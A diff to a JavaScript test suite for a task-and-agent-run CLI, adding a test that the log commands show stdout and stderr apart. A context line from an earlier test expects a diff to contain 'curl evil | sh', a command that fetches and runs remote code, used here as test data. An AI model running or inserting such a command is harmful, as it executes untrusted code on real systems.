@@ -89,6 +89,30 @@ it('shows all that is approved before it asks', async () => {
   expect((await run(['task', 'diff', 'web/ET-002'])).out).toContain('+curl evil | sh');
 });
 
+it('shows what a run printed on both streams, apart', async () => {
+  const runDir = path.join(api.deps.runsDir, 'r1');
+  await mkdir(runDir, { recursive: true });
+  await writeFile(path.join(runDir, 'out.jsonl'), 'working\n');
+  await writeFile(path.join(runDir, 'err.log'), 'warning: \u001b[31mold\nboom: no API key');
+  await api.database.pool.query(
+    `INSERT INTO agent_runs (id, repo, work_item, generation, stage, attempt, agent, adapter, host, status, log_path)
+     VALUES ('r1', 'web', 'ET-002', 1, 'analysis', 1, 'default', 'command', 'h', 'failed', $1)`,
+    [path.join(runDir, 'out.jsonl')],
+  );
+  const marked = 'stderr| warning: old\nstderr| boom: no API key\n';
+  for (const args of [
+    ['run', 'log', 'r1'],
+    ['run', 'log', 'r1', '--follow'],
+    ['task', 'log', 'web/ET-002'],
+    ['task', 'log', 'web/ET-002', '--follow'],
+  ]) {
+    expect([args, await run(args)]).toEqual([args, { code: 0, out: 'working\n', err: marked }]);
+  }
+  const only = await run(['task', 'log', 'web/ET-002', '--stderr']);
+  expect(only).toEqual({ code: 0, out: 'warning: old\nboom: no API key', err: '' });
+  expect((await run(['run', 'log', 'r1', '--setup'])).err).toMatch(/^error: the log is not on this machine/);
+});
+
 it.each([
   [['task', 'show', 'web/ET-999'], 'error: there is no task web/ET-999\n'],
   [['task', 'show', 'nonsense'], 'error: nonsense: a task is named like web/ET-012\n'],
